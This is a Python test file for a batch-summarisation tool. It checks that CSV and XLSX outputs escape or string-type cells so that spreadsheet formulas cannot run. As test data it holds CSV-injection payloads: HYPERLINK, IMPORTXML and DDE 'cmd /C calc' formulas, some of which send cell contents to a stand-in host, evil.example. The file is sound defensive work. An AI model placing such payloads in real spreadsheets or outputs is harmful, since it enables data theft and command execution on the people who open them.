"""Batch results opened in a spreadsheet run no formula from their cells (CSV injection).

Inputs hold cells an attacker wrote (``=HYPERLINK(...)``, ``+cmd``, ``@SUM``, a tab...), and the
summaries are the model's text: a ``.csv`` result escapes every text cell that a spreadsheet
would read as a formula (OWASP's leading ``'``), a ``.xlsx`` result writes texts as string cells.
Both through the writers the command line and the UI share, and resume still finds its rows.
"""

from __future__ import annotations

import csv
import zipfile

import pytest

from api.batch.cells import csv_cell, csv_text
from api.batch.formats import CsvSink, RowResult, TableInput, XlsxSink
from api.protocol_summarize import SummarizeResponse, SummarizeUsage

openpyxl = pytest.importorskip("openpyxl")

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1", "#N/A"]
HEADER = ["id", "=cmd|' /C calc'!A0", "text"]


def write_input(tmp_path, source: str):
    """The hostile table as CSV, or as a workbook whose cells are texts (openpyxl would store
    ``=...`` as formulas, which a reader sees as empty; an attacker writes text cells)."""
    records = [HEADER, *([f"=id{i}", value, f"ข่าว {i}"] for i, value in enumerate(HOSTILE))]
    path = tmp_path / f"in.{source}"
    if source == "csv":
        with open(path, "w", newline="", encoding="utf-8") as f:
            csv.writer(f).writerows(records)
    else:
        book = openpyxl.Workbook()
        sheet = book.active
        for r, record in enumerate(records, 1):
            for c, value in enumerate(record, 1):
                cell = sheet.cell(r, c, value)
                cell.data_type = "s"
        book.save(path)
    return TableInput(path, text_column="text", id_column="id")


def summary(row, text: str) -> RowResult:
    body = SummarizeResponse(summary=text, model="m", finish_reason="stop",
                             usage=SummarizeUsage(input_tokens=1, output_tokens=1, total_tokens=2))
    return RowResult(row, 200, body.model_dump(mode="json"))


def run_sink(sink, table: TableInput, text: str) -> None:
    sink.open()
    for row in table.rows():
        assert row.error is None and row.values[1] in HOSTILE
        sink.write(summary(row, text))
    sink.close(complete=True)


def test_csv_cell_escapes_formula_starts_and_keeps_numbers():
    for value in HOSTILE[:-1]:
        assert csv_cell(value) == "'" + value and csv_text(csv_cell(value)) == value
    for plain in ("-5", "+3.25", "-1e5", "ข่าว", "", "#N/A", 42, None, 1.5):
        assert csv_cell(plain) == plain
    # Already quoted text gets one more quote, so reading back is exact.
    assert csv_cell("'=x") == "''=x" and csv_text(csv_cell("'=x")) == "'=x"


@pytest.mark.parametrize("source", ["csv", "xlsx"])
def test_csv_result_escapes_every_text_cell(tmp_path, source):
    table = write_input(tmp_path, source)
    out = tmp_path / "out.csv"
    run_sink(CsvSink(out, table), table, '=IMPORTXML(CONCAT("http://evil.example/",A2),"//a")')
    with open(out, newline="", encoding="utf-8-sig") as f:
        records = list(csv.reader(f))
    cells = [cell for record in records for cell in record]
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    assert records[0][2] == "'" + HEADER[1]
    assert sorted(r[2] for r in records[1:]) == sorted(csv_cell(v) for v in HOSTILE)
    assert all(r[-2].startswith("'=IMPORTXML") and r[1].startswith("'=id") for r in records[1:])
    # Resume reads the escaped header and keys back: every row is done, none is run again.
    assert CsvSink(out, table).resume().keys == {f"=id{i}" for i in range(len(HOSTILE))}


@pytest.mark.parametrize("source", ["csv", "xlsx"])
def test_xlsx_result_writes_texts_as_strings(tmp_path, source):
    table = write_input(tmp_path, source)
    out = tmp_path / "out.xlsx"
    run_sink(XlsxSink(out, table), table, '=HYPERLINK("http://evil.example","x")')
    book = openpyxl.load_workbook(out)  # not read-only: every cell with its data type
    sheet = book.worksheets[0]
    kinds = {cell.data_type for record in sheet.iter_rows() for cell in record
             if cell.value is not None}
    assert "f" not in kinds and "e" not in kinds, kinds
    values = [[cell.value for cell in record] for record in sheet.iter_rows()]
    assert values[0][2] == HEADER[1]
    assert sorted(r[2] for r in values[1:]) == sorted(HOSTILE)  # as written, not as formulas
    assert all(r[-2] == '=HYPERLINK("http://evil.example","x")' for r in values[1:])
    assert all(isinstance(r[0], int) for r in values[1:])  # row numbers stay numbers
    with zipfile.ZipFile(out) as archive:
        xml = "".join(archive.read(n).decode() for n in archive.namelist()
                      if n.startswith("xl/worksheets/"))
    assert "<f>" not in xml and ":f>" not in xml
    # Resume from the finished workbook (no sidecar): the rows are found again.
    assert XlsxSink(out, table).resume().keys == {f"=id{i}" for i in range(len(HOSTILE))}
